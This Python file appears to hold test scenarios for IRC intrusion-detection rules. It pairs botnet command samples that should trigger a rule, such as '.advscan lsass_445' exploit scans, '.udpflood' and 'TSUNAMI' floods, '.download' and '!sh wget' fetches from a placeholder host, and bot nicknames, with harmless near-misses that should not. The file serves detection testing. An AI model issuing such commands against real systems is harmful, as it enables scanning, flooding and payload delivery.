# SPDX-License-Identifier: GPL-2.0-or-later
"""Scenarios of irc.rules."""
from sig_base import Case, irc, up

SERVER = ":irc.example.org "
BOSS = ":boss!b@host.example PRIVMSG #x :"
LOGIN = b"NICK visitor\r\nUSER visitor 0 * :A Visitor\r\n"

CASES = [
    Case(
        9000500,
        irc(BOSS + ".advscan lsass_445 150 5 0"),
        irc(BOSS + "what does .advscan do? advscan is in Rbot"),
    ),
    Case(
        9000500,
        irc(SERVER + "332 visitor #x :.advscan dcom135 200 3 0"),
        irc(SERVER + "332 visitor #x :no .advscan talk here"),
        what="topic",
    ),
    Case(
        9000501,
        irc(SERVER + "332 visitor #cc :xvv asn139 150 0 -b -r -s"),
        irc(SERVER + "332 visitor #cc :version lib139 150 0 is out - see -r or -s"),
    ),
    Case(
        9000502,
        irc(":* PRIVMSG visitor :!get http://files.example/wr.jpg"),
        irc(BOSS + "get http://files.example/wr.jpg !get it"),
    ),
    Case(
        9000503,
        irc(SERVER + "332 visitor #x :.download http://files.example/a c:\\a 1"),
        irc(SERVER + "332 visitor #x :FAQ and download at http://files.example/a"),
    ),
    Case(
        9000504,
        irc(BOSS + "look http://files.example/party.scr"),
        irc(BOSS + "look http://files.example.scr/exe.html"),
    ),
    Case(
        9000505, irc(BOSS + ".udpflood 192.0.2.7 1000 64"), irc(BOSS + ".udpflood is a bad command")
    ),
    Case(
        9000506, irc(BOSS + "!* TSUNAMI 192.0.2.7 60"), irc(BOSS + "!* a TSUNAMI 192.0.2.7 60 away")
    ),
    Case(
        9000507,
        irc("PRIVMSG #x :[SCAN]: Random Port Scan started on 192.0.x.x:445"),
        irc("PRIVMSG #x :[SCAN]: I read that random port scan started it all"),
    ),
    Case(
        9000507,
        irc("PRIVMSG #x :[DOWNLOAD]: Downloading URL: http://files.example/a to: c:\\a."),
        irc("PRIVMSG #x :[DOWNLOAD]: the new Downloading URL is on the page"),
        what="download",
    ),
    Case(9000508, irc("NICK [DEU|XP|4829153]"), irc("NICK [Deutsch|XP]")),
    Case(9000508, irc("NICK {00-USA-W7-1234567}"), irc("NICK {00-usability-77}"), what="braces"),
    Case(9000509, up(8080, LOGIN), up(8080, b"NICKEL USER visitor 0 * :A\r\n")),
    Case(9000510, irc(BOSS + "!sh wget files.example/a"), irc(BOSS + "use sh or wget! sh wget")),
]
